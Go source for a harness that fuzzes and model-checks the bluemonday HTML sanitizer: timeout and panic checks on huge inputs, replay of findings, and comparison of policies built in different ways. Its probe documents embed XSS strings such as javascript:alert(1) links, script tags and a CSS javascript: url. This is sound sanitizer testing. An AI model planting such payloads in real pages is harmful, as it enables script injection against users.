		"huge-entity":  strings.Repeat("&amp;", size/5),
	}
	hnames := []string{}
	for k := range huge {
		hnames = append(hnames, k)
	}
	sort.Strings(hnames)
	for _, name := range hnames {
		input := huge[name]
		done := make(chan string, 1)
		go func() {
			defer func() {
				if e := recover(); e != nil {
					done <- fmt.Sprint(e)
				}
			}()
			ph.Sanitize(input)
			ph.SanitizeReader(strings.NewReader(input))
			done <- ""
		}()
		res.Execs++
		res.Applicable["C14"]++
		select {
		case pm := <-done:
			if pm != "" {
				add("panic:"+name, fmt.Sprintf("Sanitize panicked on a %d-byte input (%s): %s", len(input), name, pm), CostReplayFile{Kind: "input", Recipe: hugeRecipe, Input: name})
			}
		case <-time.After(60 * time.Second):
			add("no-return:"+name, fmt.Sprintf("Sanitize did not return within 60 s on a %d-byte input consisting of one huge token (%s)", len(input), name), CostReplayFile{Kind: "input", Recipe: hugeRecipe, Input: name})
		}
	}
	_ = rng
	res.Cases = res.Execs
	res.Nontrivial = families + len(names)
	res.Extra = map[string]interface{}{"shorthand_families": families, "growth_generators": names}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("costcheck: execs=%d families=%d violations=%d\n", res.Execs, families, len(res.Violations))
	return 0
}

// callHandler calls a handler and reports a panic as text.
func callHandler(h func(string) bool, v string) (ok bool, panicked string) {
	n := 0
	css.VerifCount = func() {
		n++
		if n > 1000000 {
			panic(budgetExceeded{n})
		}
	}
	defer func() {
		css.VerifCount = nil
		if e := recover(); e != nil {
			if _, isBudget := e.(budgetExceeded); !isBudget {
				panicked = fmt.Sprint(e)
			}
		}
	}()
	return h(v), ""
}

func safeCall(h func(string) bool, v string) (ok bool) {
	n := 0
	css.VerifCount = func() {
		n++
		if n > 100000 {
			panic(budgetExceeded{n})
		}
	}
	defer func() { css.VerifCount = nil; recover() }()
	return h(v)
}

func reproC14(path string) int {
	var rf CostReplayFile
	if err := LoadJSONFile(path, &rf); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	bad := false
	switch rf.Kind {
	case "matrix":
		_, calls, aborted := runMatrix(rf.N, rf.NF, rf.Acc, rf.Budget)
		fmt.Printf("matrix n=%d nf=%d: handler calls %d, aborted at budget %d: %v\n", rf.N, rf.NF, calls, rf.Budget, aborted)
		bad = aborted
	case "style":
		_, count, aborted, pm, dur := sanitizeCounted(BuildReal(rf.Recipe), rf.Input, rf.Budget)
		fmt.Printf("input %q: recursiveCheck invocations %d (budget %d) aborted=%v panic=%q time=%v\n", rf.Input, count, rf.Budget, aborted, pm, dur)
		bad = aborted || pm != ""
	default:
		fmt.Println("re-run `vh costcheck` to reproduce:", rf.Input)
		return 2
	}
	if bad {
		fmt.Printf("VIOLATION property=C14 replay=%s\n  %s\n", path, rf.Detail)
		return 1
	}
	fmt.Println("property holds on this replay")
	return 0
}

func init() {
	Commands["replaycost"] = cmdReplayCost
	Commands["costcheck"] = cmdCostCheck
	Oracles["C14"] = func(x *Exec) []Finding {
		if x.Rec != nil && x.Rec.Panic != "" {
			return []Finding{{"C14", "panic", fmt.Sprintf("Sanitize panicked on %q: %s", x.Input, x.Rec.Panic)}}
		}
		if x.Dur > 10*time.Second && len(x.Input) < 1<<16 {
			return []Finding{{"C14", "slow", fmt.Sprintf("Sanitize took %v on a %d-byte input %q", x.Dur, len(x.Input), x.Input)}}
		}
		return nil
	}
}
