package h

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"runtime"
	"sort"
	"strings"
	"sync"

	bm "github.com/microcosm-cc/bluemonday"
)

// C17: a policy is its rule set.

type histStep struct {
	I int  `json:"i"`
	C Call `json:"c"`
}

type policyCase struct {
	Hist []histStep      `json:"hist"`
	P1   json.RawMessage `json:"p1"`
	P2   json.RawMessage `json:"p2"`
}

// apFromTLC reads a policy record printed by TLC's ToJson (sets are arrays in arbitrary order, an
// empty function is []).
func apFromTLC(raw json.RawMessage) (*AP, error) {
	var m map[string]json.RawMessage
	if err := json.Unmarshal(raw, &m); err != nil {
		return nil, err
	}
	p := BlankAP()
	tbl2 := func(k string, dst map[string]map[string][]string) {
		var t map[string]json.RawMessage
		if json.Unmarshal(m[k], &t) != nil {
			return // [] = empty function
		}
		for a, r := range t {
			dst[a] = map[string][]string{}
			var row map[string][]string
			if json.Unmarshal(r, &row) == nil {
				for b, ids := range row {
					dst[a][b] = addSet(nil, ids...)
				}
			}
		}
	}
	tbl1 := func(k string, dst map[string][]string) {
		var t map[string][]string
		if json.Unmarshal(m[k], &t) == nil {
			for a, ids := range t {
				dst[a] = addSet(nil, ids...)
			}
		}
	}
	set := func(k string) []string {
		var s []string
		json.Unmarshal(m[k], &s)
		return addSet(nil, s...)
	}
	b := func(k string) bool { var v bool; json.Unmarshal(m[k], &v); return v }
	tbl2("elAttrs", p.ElAttrs)
	tbl2("patAttrs", p.PatAttrs)
	tbl1("globalAttrs", p.GlobalAttrs)
	tbl2("elStyles", p.ElStyles)
	tbl2("patStyles", p.PatStyles)
	tbl1("globalStyles", p.GlobalStyles)
	tbl1("schemes", p.Schemes)
	p.BareEl, p.BarePat, p.Skip, p.SchemePats, p.Sandbox = set("bareEl"), set("barePat"), set("skip"), set("schemePats"), set("sandbox")
	p.Initialized, p.Parseable, p.Relative = b("initialized"), b("parseable"), b("relative")
	p.NoFollow, p.NoFollowFQ, p.NoReferrer, p.NoReferrerFQ = b("nofollow"), b("nofollowFQ"), b("noreferrer"), b("noreferrerFQ")
	p.TargetBlank, p.CrossOrigin, p.AddSpaces, p.Comments = b("targetBlank"), b("crossorigin"), b("addSpaces"), b("comments")
	p.DataAttrs, p.Unsafe, p.SandboxOn = b("dataAttrs"), b("unsafe"), b("sandboxOn")
	json.Unmarshal(m["rewriter"], &p.Rewriter)
	return p, nil
}

// probeDocs: documents over the union vocabulary of the policy families, used to compare behaviour.
var probeDocs = []string{
	`<b>bold</b><B>x</B><p class="abc">p</p><p class="123">p</p><span class="abc" CLASS="123">s</span><span class="a1">s</span>`,
	`<a href="http://example.org/x?a=1&b=2">h</a><a href="HTTP://EXAMPLE.ORG/">H</a><a href="/rel">r</a><a href="mailto:a@b.c">m</a><a href="ftp://f/x">f</a><a href="tel:+1">t</a><a href="javascript:alert(1)">j</a><a>bare</a>`,
	`<a href="http://e.com/" rel="tag" target="_top">x</a><a href="http://e.com/" rel="nofollow">y</a><a href="/r" target="_blank">z</a><area href="http://e.com/"><link href="http://e.com/" rel="x">`,
	`<custom-x title="t">c</custom-x><custom-y>d</custom-y><x-foo class="abc">e</x-foo><x-bar>f</x-bar>`,
	`<script>alert(1)</script><SCRIPT>x</SCRIPT><style>p{}</style><object>in object<b>b</b></object>after<div>in div</div><B>skipped?</B>`,
	`<iframe src="http://e.com/" sandbox="allow-forms allow-scripts bogus">f</iframe><iframe sandbox="">g</iframe><iframe>h</iframe>`,
	`<img src="http://e.com/i.png" alt="a b" width="10" height="10%" align="left" crossorigin="use-credentials"><img src="data:image/png;base64,iVBORw0KGgo="><img src="/i">`,
	`<!-- comment --><p data-x="1" data-a;b="2" id="i1" title="T t" dir="rtl" lang="en">attrs</p><![CDATA[x]]>`,
	`<span style="color: red; COLOR: BLUE; background: url(javascript:x)">s</span><p style="color: red">p</p><div style="color: #fff">d</div><span style="color: #fff; width: 1px">w</span>`,
	`<ul type="disc"><li type="a" value="3">l</li></ul><ol type="I"></ol><dl><dt>t</dt><dd>d</dd></dl><table summary="s"><tr><td colspan="2">c</td></tr></table>`,
	`x<blink>unknown</blink>y<form><input type="image" src="javascript:alert(1)"></form><source src="javascript:x"><q cite="http://e.com/">q</q><del cite="x y">d</del>`,
	` <title>t</title><noscript>n</noscript><frame src=x>after frame<textarea>ta</textarea> `,
	// an element reached through two overlapping patterns, then elements reached through only one of them
	`<custom-y title="t" class="c">1</custom-y><custom-x class="c" title="t">2</custom-x><b-y title="t" class="c">3</b-y><custom-y class="c">4</custom-y><custom-x class="c">5</custom-x>`,
	// several style properties at once; content of elements that may or may not be in the skip set
	`<custom-x style="color: red; text-align: center; width: 10px">s</custom-x><span style="text-align: center; width: 1px">t</span><blink>in blink</blink><svg>in svg</svg><style>in style</style>tail`,
}

// completion: calls applied on top of a history so that rules which need an allowed element or attribute to show become observable
var completion = Recipe{{M: "AllowElements", Names: []string{"a", "img", "span", "p", "q", "iframe"}},
	{M: "AllowAttrs", Attrs: []string{"href", "src", "cite", "class", "title"}, Scope: "glob"}, {M: "RequireParseableURLs", B: true}}

func probeCompleted(p *bm.Policy) []string {
	b := &Builder{P: p}
	for _, c := range completion {
		c.norm()
		b.Apply(c)
	}
	return probe(p)
}

func withCompletion(h []histStep, inst int) []histStep {
	out := append([]histStep{}, h...)
	for _, c := range completion {
		c.norm()
		out = append(out, histStep{inst, c})
	}
	return out
}

func probe(p *bm.Policy) []string {
	out := make([]string, len(probeDocs))
	for i, d := range probeDocs {
		out[i] = p.Sanitize(d)
	}
	return out
}

func firstDiff(a, b []string) int {
	for i := range a {
		if a[i] != b[i] {
			return i
		}
	}
	return -1
}

// C17ReplayFile reproduces a C17 violation: two construction histories and the probe they disagree on.
type C17ReplayFile struct {
	Property string     `json:"property"`
	Key      string     `json:"key"`
	Detail   string     `json:"detail"`
	HistA    []histStep `json:"hist_a"`
	HistB    []histStep `json:"hist_b"`
	Inst     int        `json:"instance"`
	Probe    string     `json:"probe"`
}

func writeC17Replay(key, detail string, a, b []histStep, inst int, probeDoc string) string {
	rf := C17ReplayFile{"C17", key, detail, a, b, inst, probeDoc}
	os.MkdirAll(ReplayDir(), 0o755)
	path := fmt.Sprintf("%s/C17-%08x.json", ReplayDir(), hashString(string(JSON(rf))))
	os.WriteFile(path, JSON(rf), 0o644)
	return path
}

func hashString(s string) uint32 {
	var h uint32 = 2166136261
	for i := 0; i < len(s); i++ {
		h = (h ^ uint32(s[i])) * 16777619
	}
	return h
}

// runHistory builds the two instances of a history on the real API; checks independence and model
// agreement after every call. fresh: compile a new *regexp.Regexp for every call.
func runHistory(h []histStep, fresh bool, res *RunResult, seenV map[string]bool) (real [3]*bm.Policy, model [3]*AP) {
	bs := [3]*Builder{nil, {Fresh: fresh}, {Fresh: fresh}}
	model[1], model[2] = BlankAP(), BlankAP()
	var lastSnap [3]*AP
	own := [3]Recipe{}
	for k, s := range h {
		c := s.C
		c.norm()
		bs[s.I].Apply(c)
		model[s.I].Apply(c)
		own[s.I] = append(own[s.I], c)
		snap := SnapshotAP(bs[s.I].P)
		if d := APDiff(model[s.I], snap); len(d) > 0 {
			res.diverge("builder call %d (%s on instance %d): real policy differs from the model: %s", k+1, c.M, s.I, d[0])
		}
		lastSnap[s.I] = snap
		// the other instance must be exactly as it was (snapshots do not touch the policy)
		if o := 3 - s.I; bs[o].P != nil && lastSnap[o] != nil {
			osnap := SnapshotAP(bs[o].P)
			if d := APDiff(lastSnap[o], osnap); len(d) > 0 {
				key := "independence:" + c.M
				if !seenV[key] || len(res.Violations) < 5 {
					seenV[key] = true
					det := fmt.Sprintf("call %s on policy instance %d changed the other instance: %s", c.M, s.I, d[0])
					res.Violations = append(res.Violations, ViolationRec{Finding{"C17", key, det}, writeC17Replay(key, det, h[:k+1], nil, o, "")})
				}
			}
		}
	}
	// behaviour: each instance behaves like a policy built alone from its own calls
	for i := 1; i <= 2; i++ {
		if bs[i].P == nil || len(own[i]) == 0 {
			continue
		}
		alone := probe(BuildReal(own[i]))
		// the same calls with the policy put to use between them: what a policy has seen must not matter once it is extended
		if len(own[i]) >= 2 && own[i][0].M != "ZeroValue" {
			ub := &Builder{Fresh: fresh}
			for _, c := range own[i] {
				ub.Apply(c)
				if ub.P != nil {
					probe(ub.P)
				}
			}
			if d := firstDiff(alone, probe(ub.P)); d >= 0 {
				key := "used-while-built"
				if !seenV[key] || len(res.Violations) < 5 {
					seenV[key] = true
					det := fmt.Sprintf("a policy that sanitised documents between its builder calls behaves differently from the same calls made without uses, on %q", probeDocs[d])
					hb := []histStep{}
					for _, c := range own[i] {
						hb = append(hb, histStep{i, c})
					}
					res.Violations = append(res.Violations, ViolationRec{Finding{"C17", key, det}, writeC17Replay(key, det, hb, nil, i, probeDocs[d])})
				}
			}
		}
		if d := firstDiff(alone, probe(bs[i].P)); d >= 0 {
			key := "independence-behaviour"
			if !seenV[key] || len(res.Violations) < 5 {
				seenV[key] = true
				det := fmt.Sprintf("policy instance %d built next to another policy behaves differently from the same calls made alone, on %q", i, probeDocs[d])
				hb := []histStep{}
				for _, c := range own[i] {
					hb = append(hb, histStep{i, c})
				}
				res.Violations = append(res.Violations, ViolationRec{Finding{"C17", key, det}, writeC17Replay(key, det, hb, h, i, probeDocs[d])})
			}
		}
	}
	real[1], real[2] = bs[1].P, bs[2].P
	return
}

type eqClass struct {
	hist  []histStep
	inst  int
	probe []string
}

// cmdReplayPolicy: CASE lines of MC_Policy -> the real builder API.
func cmdReplayPolicy(args []string) int {
	fs := flag.NewFlagSet("replaypolicy", flag.ExitOnError)
	famPath := fs.String("fam", "", "family file (the cases carry their calls; the accumulation sweep uses the call alphabet)")
	_ = fs.String("props", "", "")
	_ = fs.Int("variants", 1, "")
	seed := fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replaypolicy", "")
	fs.Parse(args)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	rng := rand.New(rand.NewSource(*seed))
	seenV := map[string]bool{}
	classes := map[string]*eqClass{}
	type instOut struct {
		key   string
		probe []string
		inst  int
	}
	type caseOut struct {
		c    policyCase
		sub  *RunResult
		inst []instOut
		err  error
	}
	jobs := make(chan string, 256)
	outs := make(chan caseOut, 256)
	nw := runtime.NumCPU()
	var wg sync.WaitGroup
	for w := 0; w < nw; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			lr := rand.New(rand.NewSource(*seed + int64(w)))
			for js := range jobs {
				var co caseOut
				co.sub = &RunResult{}
				if e := json.Unmarshal([]byte(js), &co.c); e != nil {
					co.err = e
					outs <- co
					continue
				}
				real, _ := runHistory(co.c.Hist, lr.Intn(3) == 0, co.sub, map[string]bool{})
				for inst, raw := range map[int]json.RawMessage{1: co.c.P1, 2: co.c.P2} {
					pred, e := apFromTLC(raw)
					if e != nil {
						co.err = e
						break
					}
					snap := SnapshotAP(real[inst])
					snap.Initialized = pred.Initialized // probing sanitises, which lazily initialises a zero-value policy
					if d := APDiff(pred, snap); len(d) > 0 {
						co.sub.diverge("history %s: real policy %d differs from the specification's: %s", histString(co.c.Hist), inst, d[0])
					}
					// the behaviour is compared in any case: histories with the same rule set (according to the
					// specification) must give policies that behave identically
					// ... also after a fixed set of completion calls that make every rule observable (a scheme pattern on a
					// policy that allows no link yet shows only once links are allowed)
					pv := probe(real[inst])
					co.inst = append(co.inst, instOut{string(JSON(pred)), append(pv, probeCompleted(real[inst])...), inst})
				}
				outs <- co
			}
		}(w)
	}
	go func() {
		in := bufio.NewReaderSize(os.Stdin, 1<<20)
		for {
			line, err := in.ReadString('\n')
			if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
				jobs <- js
			}
			if err != nil {
				break
			}
		}
		close(jobs)
		wg.Wait()
		close(outs)
	}()
	_ = rng
	for co := range outs {
		if co.err != nil {
			fmt.Fprintln(os.Stderr, "replaypolicy: bad case:", co.err)
			return 2
		}
		res.Cases++
		res.Execs++
		res.Divergences += co.sub.Divergences
		for _, d := range co.sub.DivSamples {
			if len(res.DivSamples) < 8 {
				res.DivSamples = append(res.DivSamples, d)
			}
		}
		for _, v := range co.sub.Violations {
			if !seenV[v.Key] || len(res.Violations) < 5 {
				seenV[v.Key] = true
				res.Violations = append(res.Violations, v)
			}
		}
		for _, io := range co.inst {
			// same abstract policy => same behaviour, whatever the construction history
			res.Applicable["C17"]++
			if cl := classes[io.key]; cl == nil {
				classes[io.key] = &eqClass{co.c.Hist, io.inst, io.probe}
				if len(res.Samples) < 3 {
					res.Samples = append(res.Samples, map[string]interface{}{"history": histString(co.c.Hist), "instance": io.inst, "probe": probeDocs[1], "output": io.probe[1]})
				}
			} else if i := firstDiff(cl.probe, io.probe); i >= 0 {
				k := "rule-set-behaviour"
				if !seenV[k] || len(res.Violations) < 5 {
					seenV[k] = true
					ha, hb, note := cl.hist, co.c.Hist, ""
					if i >= len(probeDocs) {
						ha, hb, note = withCompletion(ha, cl.inst), withCompletion(hb, io.inst), " once links, images and URL attributes are allowed on top of both"
					}
					pd := probeDocs[i%len(probeDocs)]
					det := fmt.Sprintf("two construction histories give the same rule set but different output%s on %q: %q vs %q (histories %s [instance %d] and %s [instance %d])",
						note, pd, cl.probe[i], io.probe[i], histString(cl.hist), cl.inst, histString(co.c.Hist), io.inst)
					res.Violations = append(res.Violations, ViolationRec{Finding{"C17", k, det}, writeC17Replay(k, det, ha, hb, io.inst, pd)})
				}
			}
		}
	}
	if *famPath != "" {
		if fam, err := LoadFamily(*famPath); err == nil {
			accumulateSweep(fam, res, seenV)
		}
	}
	res.Nontrivial = len(classes)
	res.Extra = map[string]interface{}{"distinct_abstract_policies": len(classes)}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replaypolicy: cases=%d classes=%d divergences=%d violations=%d\n", res.Cases, len(classes), res.Divergences, len(res.Violations))
	return 0
}

// keptTriples: what a policy lets through on a probe document, as a multiset of (element, attribute, value) with the style
// attribute split into its declarations, plus the bare tags.
func keptTriples(p *bm.Policy, model *AP, doc string, styleOnlyWhere func(el string) bool) map[string]int {
	m := map[string]int{}
	for _, t := range Tokens([]byte(p.Sanitize(doc))) {
		if t.T != "start" && t.T != "self" {
			continue
		}
		m[t.N]++
		for _, a := range t.A {
			if a.K == "style" {
				if !styleOnlyWhere(t.N) {
					continue
				}
				for _, d := range strings.Split(a.V, ";") {
					if d = strings.TrimSpace(d); d != "" {
						m[t.N+"|style|"+d]++
					}
				}
				continue
			}
			m[t.N+"|"+a.K+"|"+a.V]++
		}
	}
	return m
}

func isAccumulatingCall(c Call) bool {
	switch c.M {
	case "AllowAttrs", "AllowStyles", "AllowElements", "AllowElementsMatching":
		return true
	}
	return false
}

// accumulateCheck: "rules accumulate rather than replace one another": whatever the policy ctor+c1 lets through, ctor+c1+c2
// lets through as well (c1, c2 rule-adding calls). Style declarations are compared only on elements for which ctor+c1 already
// filters styles (a first style rule for an element legitimately switches the filter on).
func accumulateCheck(ctor, c1, c2 Call) (detail, probeDoc string) {
	r1 := Recipe{ctor, c1}
	r12 := Recipe{ctor, c1, c2}
	for i := range r12 {
		r12[i].norm()
	}
	for i := range r1 {
		r1[i].norm()
	}
	m1 := BuildAP(r1)
	p1, p12 := BuildReal(r1), BuildReal(r12)
	filt := func(el string) bool { return m1.hasStyleRules(el) }
	for _, doc := range probeDocs {
		a, b := keptTriples(p1, m1, doc, filt), keptTriples(p12, nil, doc, filt)
		for k, n := range a {
			if b[k] < n {
				return fmt.Sprintf("rules replace instead of accumulating: with %s the policy keeps %q on %q, after adding %s it no longer does", strings.Join(recipeSummary(r1), " "), k, doc,
					strings.Join(recipeSummary(Recipe{c2}), "")), doc
			}
		}
	}
	return "", ""
}

func accumulateSweep(fam *Family, res *RunResult, seenV map[string]bool) {
	ctors := []Call{{M: "NewPolicy"}, {M: "UGCPolicy"}}
	for _, ctor := range ctors {
		for _, c1 := range fam.Calls {
			if !isAccumulatingCall(c1) {
				continue
			}
			for _, c2 := range fam.Calls {
				if !isAccumulatingCall(c2) {
					continue
				}
				res.Execs++
				if det, doc := accumulateCheck(ctor, c1, c2); det != "" {
					key := "accumulate:" + c1.M + ":" + c2.M
					if !seenV[key] || len(res.Violations) < 5 {
						seenV[key] = true
						ha := []histStep{{1, ctor}, {1, c1}}
						hb := []histStep{{1, ctor}, {1, c1}, {1, c2}}
						res.Violations = append(res.Violations, ViolationRec{Finding{"C17", key, det}, writeC17Replay(key, det, ha, hb, 1, doc)})
					}
				}
			}
		}
	}
}

func histString(h []histStep) string {
	ss := []string{}
	for _, s := range h {
		ss = append(ss, fmt.Sprintf("%d:%s", s.I, strings.Join(recipeSummary(Recipe{s.C}), "")))
	}
	return strings.Join(ss, " ; ")
}

// isRuleCall mirrors RuleCalls of BM_Policy.tla.
func isRuleCall(m string) bool {
	switch m {
	case "AllowAttrs", "AllowStyles", "AllowElements", "AllowElementsMatching", "AllowURLSchemesMatching", "AllowStandardAttributes",
		"AllowStyling", "AllowLists", "AllowTables":
		return true
	}
	return false
}

func upperCall(c Call) Call {
	up := func(ss []string) []string {
		out := make([]string, len(ss))
		for i, s := range ss {
			out[i] = strings.ToUpper(s)
		}
		return out
	}
	c.Names, c.Attrs, c.Els, c.Props, c.Schemes, c.Scheme = up(c.Names), up(c.Attrs), up(c.Els), up(c.Props), up(c.Schemes), strings.ToUpper(c.Scheme)
	return c
}

// cmdPolicyFuzz: random recipes and rule-equivalent variants of them (permuted rule calls, upper-cased
// names, repeated calls, construction interleaved with a second policy) on the real API; the builder
// events are also written as a trace for Trace_Session.
func cmdPolicyFuzz(args []string) int {
	fs := flag.NewFlagSet("policyfuzz", flag.ExitOnError)
	seed := fs.Int64("seed", 1, "")
	n := fs.Int("n", 200, "number of base recipes")
	tracePath := fs.String("trace", "", "")
	factsPath := fs.String("facts", "", "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "policyfuzz", "")
	fs.Parse(args)
	rng := rand.New(rand.NewSource(*seed))
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seenV := map[string]bool{}
	var tw *TraceWriter
	if *tracePath != "" {
		tf, err := os.Create(*tracePath)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		defer tf.Close()
		tw = NewTraceWriter(tf)
	}
	distinct := map[string]bool{}
	// a few fixed rule sets first: calls that name several things at once, one of them already known to the policy
	fixedBases := []Recipe{
		{{M: "NewPolicy"}, {M: "AllowElements", Names: []string{"b"}}, {M: "SkipElementsContent", Names: []string{"style", "svg", "blink"}}},
		{{M: "NewPolicy"}, {M: "AllowElementsMatching", Pat: "^custom-"}, {M: "AllowStyles", Props: []string{"color", "text-align", "width"}, Scope: "pat", Pat: "^custom-"}},
		{{M: "UGCPolicy"}, {M: "AllowElementsContent", Names: []string{"script", "title", "object"}}, {M: "AllowAttrs", Attrs: []string{"title", "class", "id"}, Scope: "els", Els: []string{"span", "p", "b"}}},
		{{M: "NewPolicy"}, {M: "AllowElements", Names: []string{"a", "p"}}, {M: "AllowAttrs", Attrs: []string{"href"}, Scope: "els", Els: []string{"a"}}, {M: "AllowURLSchemes", Schemes: []string{"http", "mailto", "tel"}}},
	}
	for k := 0; k < *n+len(fixedBases); k++ {
		base := GenRecipe(rng, GenOpts{})
		other := GenRecipe(rng, GenOpts{})
		if k < len(fixedBases) {
			base = fixedBases[k]
			for i := range base {
				base[i].norm()
			}
		}
		baseModel := BuildAP(base)
		basePol := BuildReal(base)
		baseProbe := probe(basePol)
		distinct[string(JSON(baseModel))] = true
		// variants with the same rule set
		for v := 0; v < 5; v++ {
			variant := append(Recipe{}, base...)
			what := ""
			switch v {
			case 0: // permute maximal runs of rule calls
				what = "permuted rule calls"
				for i := 1; i < len(variant); {
					j := i
					for j < len(variant) && isRuleCall(variant[j].M) {
						j++
					}
					rng.Shuffle(j-i, func(a, b int) { variant[i+a], variant[i+b] = variant[i+b], variant[i+a] })
					if j == i {
						j++
					}
					i = j
				}
			case 1:
				what = "upper-cased names"
				for i := range variant {
					variant[i] = upperCall(variant[i])
				}
			case 2:
				what = "repeated rule calls"
				ext := Recipe{variant[0]}
				for _, c := range variant[1:] {
					ext = append(ext, c)
					if isRuleCall(c.M) && rng.Intn(2) == 0 {
						ext = append(ext, c)
					}
				}
				variant = ext
			case 3:
				what = "interleaved with the construction of another policy"
			case 4: // every call that names several things becomes one call per name, last name first
				what = "multi-name calls split into single-name calls in reverse order"
				ext := Recipe{variant[0]}
				for _, c := range variant[1:] {
					var list *[]string
					switch c.M {
					case "AllowElements", "SkipElementsContent", "AllowElementsContent":
						list = &c.Names
					case "AllowAttrs":
						list = &c.Attrs
					case "AllowStyles":
						list = &c.Props
					case "AllowURLSchemes":
						list = &c.Schemes
					}
					if list == nil || len(*list) < 2 {
						ext = append(ext, c)
						continue
					}
					all := append([]string{}, (*list)...)
					for i := len(all) - 1; i >= 0; i-- {
						one := c
						switch c.M {
						case "AllowElements", "SkipElementsContent", "AllowElementsContent":
							one.Names = []string{all[i]}
						case "AllowAttrs":
							one.Attrs = []string{all[i]}
						case "AllowStyles":
							one.Props = []string{all[i]}
						case "AllowURLSchemes":
							one.Schemes = []string{all[i]}
						}
						ext = append(ext, one)
					}
				}
				variant = ext
			}
			h := []histStep{}
			if v == 3 {
				i, j := 0, 0
				for i < len(variant) || j < len(other) {
					if j >= len(other) || (i < len(variant) && rng.Intn(2) == 0) {
						h = append(h, histStep{1, variant[i]})
						i++
					} else {
						h = append(h, histStep{2, other[j]})
						j++
					}
				}
			} else {
				for _, c := range variant {
					h = append(h, histStep{1, c})
				}
			}
			if !apEqual(BuildAP(variant), baseModel) {
				// the harness' own model says the variant is a different rule set: not a C17 instance
				continue
			}
			real, _ := runHistory(h, v == 2, res, seenV)
			res.Execs++
			res.Cases++
			res.Applicable["C17"]++
			if tw != nil && v == 3 {
				writeHistoryTrace(tw, h)
			}
			vs := SnapshotAP(real[1])
			vs.Initialized = baseModel.Initialized
			if d := APDiff(baseModel, vs); len(d) > 0 {
				res.diverge("variant (%s) of %v: snapshot differs from the model: %s", what, recipeSummary(base), d[0])
			}
			if i := firstDiff(baseProbe, probe(real[1])); i >= 0 {
				key := "variant:" + what
				if !seenV[key] || len(res.Violations) < 5 {
					seenV[key] = true
					hb := []histStep{}
					for _, c := range base {
						hb = append(hb, histStep{1, c})
					}
					det := fmt.Sprintf("the same rule set built with %s behaves differently on %q: %q vs %q", what, probeDocs[i], baseProbe[i], probe(real[1])[i])
					res.Violations = append(res.Violations, ViolationRec{Finding{"C17", key, det}, writeC17Replay(key, det, hb, h, 1, probeDocs[i])})
				}
			}
		}
		if len(res.Samples) < 3 {
			res.Samples = append(res.Samples, map[string]interface{}{"recipe": recipeSummary(base), "probe": probeDocs[0], "output": baseProbe[0]})
		}
	}
	res.Nontrivial = len(distinct)
	if tw != nil {
		tw.Flush()
		os.WriteFile(*factsPath, JSON(tw.Facts), 0o644)
	}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("policyfuzz: variants=%d divergences=%d violations=%d\n", res.Execs, res.Divergences, len(res.Violations))
	return 0
}

func apEqual(a, b *AP) bool { return len(APDiff(a, b)) == 0 }

// writeHistoryTrace logs an interleaved two-policy construction as build events.
func writeHistoryTrace(tw *TraceWriter, h []histStep) {
	si := len(tw.Sessions)
	tw.Sessions = append(tw.Sessions, &SessionResult{})
	tw.emit(Ev{"ev": "reset"}, LineInfo{si, 0, -1})
	bs := [3]*Builder{nil, {}, {}}
	for _, s := range h {
		c := s.C
		c.norm()
		tw.Facts.AddRecipe(Recipe{c})
		bs[s.I].Apply(c)
		others := []interface{}{}
		if o := 3 - s.I; bs[o].P != nil {
			others = append(others, map[string]interface{}{"pid": o, "snap": SnapshotAP(bs[o].P)})
		}
		tw.emit(Ev{"ev": "build", "pid": s.I, "call": c, "snap": SnapshotAP(bs[s.I].P), "others": others}, LineInfo{si, 0, -1})
	}
}

// reproC17 re-runs a C17 replay file.
func reproC17(path string) int {
	var rf C17ReplayFile
	if err := LoadJSONFile(path, &rf); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	if rf.Key == "used-while-built" {
		r := Recipe{}
		for _, st := range rf.HistA {
			r = append(r, st.C)
		}
		ub := &Builder{}
		for _, c := range r {
			ub.Apply(c)
			if ub.P != nil {
				probe(ub.P)
			}
		}
		a, b := BuildReal(r).Sanitize(rf.Probe), ub.P.Sanitize(rf.Probe)
		fmt.Printf("probe %q\n  built, then used -> %q\n  used while built -> %q\n", rf.Probe, a, b)
		if a != b {
			fmt.Printf("VIOLATION property=C17 replay=%s\n  %s\n", path, rf.Detail)
			return 1
		}
		fmt.Println("property holds on this replay")
		return 0
	}
	if strings.HasPrefix(rf.Key, "accumulate:") && len(rf.HistB) == 3 {
		if det, _ := accumulateCheck(rf.HistB[0].C, rf.HistB[1].C, rf.HistB[2].C); det != "" {
			fmt.Printf("VIOLATION property=C17 replay=%s\n  %s\n", path, det)
			return 1
		}
		fmt.Println("property holds on this replay")
		return 0
	}
	res := &RunResult{}
	seen := map[string]bool{}
	ra, _ := runHistory(rf.HistA, false, res, seen)
	bad := len(res.Violations) > 0
	if rf.HistB != nil {
		rb, _ := runHistory(rf.HistB, false, res, seen)
		ia := rf.Inst
		for _, s := range rf.HistA {
			ia = s.I
			break
		}
		_ = ia
		oa, ob := "", rb[rf.Inst].Sanitize(rf.Probe)
		for i := 1; i <= 2; i++ {
			if ra[i] != nil {
				oa = ra[i].Sanitize(rf.Probe)
				if oa != ob {
					bad = true
				}
				break
			}
		}
		fmt.Printf("probe %q\n  history A -> %q\n  history B -> %q\n", rf.Probe, oa, ob)
	}
	if bad {
		fmt.Printf("VIOLATION property=C17 replay=%s\n  %s\n", path, rf.Detail)
		return 1
	}
	fmt.Println("property holds on this replay")
	return 0
}

func init() {
	Commands["replaypolicy"] = cmdReplayPolicy
	Commands["policyfuzz"] = cmdPolicyFuzz
	_ = sort.Strings
	_ = base64.StdEncoding
}
