// Package h is the Go side of the bluemonday verification machinery:
// concretiser (gamma), abstraction (alpha), fact tables, oracles, recorder.
package h

import (
	"bytes"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
)

// Attr is one attribute: lower-cased name, HTML-decoded value.
type Attr struct {
